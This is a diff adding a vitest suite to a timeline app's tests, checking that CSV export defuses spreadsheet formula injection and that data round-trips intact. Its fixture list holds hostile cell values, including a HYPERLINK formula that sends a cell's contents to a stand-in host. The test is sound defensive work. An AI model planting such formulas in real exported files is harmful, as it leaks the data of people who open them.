@@ -1,5 +1,6 @@
 import { readFileSync } from 'node:fs';
 import { resolve } from 'node:path';
+import { csvParseRows } from 'd3-dsv';
 import { describe, expect, it } from 'vitest';
 import { parseCsvText, parseJsonText, type LoadResult } from './parse-store.ts';
 import type { Dataset, TimelineEvent } from './schema.ts';
@@ -77,6 +78,52 @@ describe.each([
       '2016 – March 2017',
       'Late spring 2016',
     ]);
+  });
+});
+
+describe('events exported as CSV', () => {
+  const FORMULAS = [
+    '=HYPERLINK("http://x.test/?leak="&A1,"Click")',
+    '+1+1',
+    '-2',
+    '@SUM(A1)',
+    '\tTab',
+    "'=quoted",
+  ];
+  const hostile = {
+    version: 1,
+    title: FORMULAS[0],
+    description: FORMULAS[1],
+    topics: [{ id: 't', label: FORMULAS[2], color: '#1d4ed8' }],
+    events: [
+      {
+        id: 'a',
+        title: FORMULAS[0],
+        summary: FORMULAS[3],
+        dateNote: FORMULAS[4],
+        date: { precision: 'day', start: '2016-05-01' },
+        topics: ['t'],
+        people: [FORMULAS[1], FORMULAS[5]],
+        quotes: [{ text: FORMULAS[2], speaker: FORMULAS[3] }],
+        sources: [{ name: FORMULAS[4], url: 'https://example.com/' }],
+      },
+    ],
+  };
+  const dataset = ready(parseJsonText(JSON.stringify(hostile), 'hostile.json'));
+  const csv = storeCsvText(dataset, dataset.events);
+
+  it('hold no cell a spreadsheet would run as a formula', () => {
+    const cells = csvParseRows(csv.trimEnd()).flat();
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(cells).toContain('\'=HYPERLINK("http://x.test/?leak="&A1,"Click")');
+  });
+
+  it('read back to the text as it was', () => {
+    const back = ready(parseCsvText(csv, 'hostile.csv'));
+    expect(back.title).toBe(dataset.title);
+    expect(back.description).toBe(dataset.description);
+    expect(back.topics.map((t) => t.label)).toEqual([FORMULAS[2]]);
+    expect(back.events).toEqual(dataset.events);
   });
 });
 
